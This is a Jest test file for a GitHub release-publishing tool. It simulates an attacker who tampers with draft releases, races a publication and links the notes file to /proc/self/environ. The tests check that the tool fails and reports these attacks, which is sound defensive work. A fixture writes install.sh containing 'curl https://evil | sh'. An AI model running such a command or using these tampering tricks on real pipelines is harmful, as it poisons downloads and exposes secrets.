// A live attacker who may write releases and tags, and cannot sign: in the draft, in the moment of publishing, afterwards.
import { symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { JobOptions, JobResult } from '../runner/job.ts';
import { openStage, RELEASE_MS, SET_UP_MS, type Stage, publicWrites } from './stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await openStage();
  await writeFile(join(stage.dir, 'install.sh'), 'curl https://evil | sh\n');
}, SET_UP_MS);
afterAll(() => stage.close(), SET_UP_MS);

const gh = async (...argv: readonly string[]): Promise<string> => {
  const { code, stdout, stderr } = await stage.judges.gh(...argv);
  if (code !== 0) throw new Error(`gh ${argv.join(' ')}: ${stderr}`);
  return stdout;
};
const told = ({ annotations }: JobResult): string => annotations.map(({ message }) => message).join('\n');
const releasesOf = (tag: string): ReturnType<Stage['site']['standIns']['releases']> =>
  stage.site.standIns.releases().filter((one) => one.tag_name === tag);

/** Strikes once, when so many files are in the draft and the server has answered the last of them. */
const afterUploads = (count: number, strike: () => Promise<unknown>): Pick<JobOptions, 'onCall'> => {
  let seen = 0;
  return {
    onCall: async ({ method, host }, phase) => {
      if (phase !== 'after' || method !== 'POST' || host !== 'uploads.github.com') return;
      if (++seen === count) await strike();
    },
  };
};

test(
  'notes-file that is a link to the environment of the process: nothing is written, and no plan shows it',
  async () => {
    for (const mode of ['release', 'plan']) {
      const result = await stage.release('v1.2.0', {
        builder: false,
        with: { mode, 'notes-file': 'LINK.md' },
        prepare: (workspace) => symlink('/proc/self/environ', join(workspace, 'LINK.md')),
      });
      expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
      expect(told(result)).toMatch(/notes-file LINK\.md leads to \/proc\/\d+\/environ/);
      expect(publicWrites(result.calls)).toEqual([]);
    }
  },
  RELEASE_MS,
);

test(
  'a file that is put into the draft right before it is public is not published, and is not taken away',
  async () => {
    const repo = ['--repo', stage.site.repository];
    const result = await stage.release('v1.1.0', {
      with: {},
      ...afterUploads(4, () => gh('release', 'upload', 'v1.1.0', join(stage.dir, 'install.sh'), ...repo)),
    });
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(/the draft of v1\.1\.0 was changed while this run filled it.*install\.sh/);
    const [draft] = releasesOf('v1.1.0');
    expect(draft).toMatchObject({ draft: true });
    expect(draft?.assets.map(({ name }) => name)).toContain('install.sh');
    await gh('release', 'delete-asset', 'v1.1.0', 'install.sh', '--yes', ...repo);
    const again = await stage.release('v1.1.0');
    expect(again).toMatchObject({ conclusion: 'success', outputs: { verified: 'true' } });
  },
  RELEASE_MS * 2,
);

test(
  'a release of the same commit and image that somebody else publishes a moment before is not adopted',
  async () => {
    const repo = ['--repo', stage.site.repository];
    const strike = async (): Promise<void> => {
      await gh(
        'release',
        'download',
        'v1.2.0',
        '--dir',
        stage.dir,
        '--pattern',
        'release.json',
        '--clobber',
        ...repo,
      );
      const [draft] = releasesOf('v1.2.0');
      const at = `repos/${stage.site.repository}/releases/${draft?.id ?? 0}`;
      await gh('release', 'upload', 'v1.2.0', join(stage.dir, 'install.sh'), ...repo);
      await gh('api', '--method', 'PATCH', at, '-F', 'draft=false', '-f', 'tag_name=v1.2.0');
    };
    const result = await stage.release('v1.2.0', { with: {}, ...afterUploads(4, strike) });
    expect(result).toMatchObject({ conclusion: 'failure', exitCode: 1 });
    expect(told(result)).toMatch(
      /somebody else has published v1\.2\.0 and it does not verify:[\s\S]*install\.sh/,
    );
    expect(result.outputs['verified']).not.toBe('true');
    const verified = await stage.release('v1.2.0', { builder: false, with: { mode: 'verify' } });
    expect(verified).toMatchObject({ exitCode: 1, outputs: { verified: 'false' } });
    expect(verified.log.join('\n')).toMatch(/NOT OK.*not of this release: install\.sh/);
  },
  RELEASE_MS * 2,
);
